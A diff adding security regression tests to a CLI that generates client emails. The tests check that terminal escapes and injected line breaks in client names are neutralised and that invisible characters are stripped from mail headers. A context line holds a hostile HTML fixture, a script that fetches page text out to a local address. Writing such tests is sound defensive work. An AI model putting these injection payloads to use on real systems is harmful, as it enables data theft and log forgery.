@@ -616,6 +616,22 @@ class TestTerminalOutput:
         assert result.exit_code == 2 and len(result.stderr.splitlines()) == 1
         self._clean(result.stderr)
 
+    @pytest.mark.parametrize("client", [f"A{ESCAPES}", "X\r\nrow 9 (Evil): forged"])
+    def test_a_client_name_in_a_batch_failure(
+        self, runner: CliRunner, tmp_path: Path, client: str
+    ) -> None:
+        """A row's client name is shown in its failure line: escaped, one line per row (a
+        red-team finding: the escape set the window title, the line break forged a row)."""
+        clients = tmp_path / "clients.csv"
+        quoted = client.replace('"', '""')
+        clients.write_text(f'client,archetype\n"{quoted}",bogus\n', encoding="utf-8")
+        result = runner.invoke(cli, ["batch", str(clients), "-o", str(tmp_path / "out"),
+                                     "--only", "email"])  # fmt: skip
+        assert result.exit_code == 1
+        rows = [line for line in result.stderr.splitlines() if line.startswith("row ")]
+        assert len(rows) == 1 and rows[0].startswith("row 2 (")
+        self._clean(result.stderr)
+
 
 HOSTILE_HTML = {
     "script": '<script>fetch("http://127.0.0.1:9/x?d=" + document.body.innerText)</script>',
@@ -744,3 +760,22 @@ def test_any_client_name_renders_or_is_refused_cleanly(value: str) -> None:
             assert "{{" not in body or "{{" in value
     except (InputError, OutputError, TemplateError):
         pass
+
+
+def test_invisible_characters_leave_the_mail_headers_too() -> None:
+    """A red-team finding: the bodies lost invisible characters, the From:/To: names kept
+    them."""
+    import email
+    from email import policy
+
+    from breakup.models import ClientFacts, Profile, Sender
+    from breakup.publish import publish
+
+    sender = Sender(name="Priya\u200bNair", email="priya@example.com")
+    facts = ClientFacts(client="Acme", contact="Dan\u00adiel Re\u2060yes\ufeff",
+                        client_email="dan@example.com")  # fmt: skip
+    data = publish("email", "diva", "eml", profile=Profile(sender=sender), facts=facts).data
+    message = email.message_from_bytes(data, policy=policy.default)
+    for field in ("From", "To"):
+        assert not any(c in str(message[field]) for c in "\u200b\u00ad\u2060\ufeff\u200d")
+    assert str(message["To"]).startswith("Daniel Reyes")
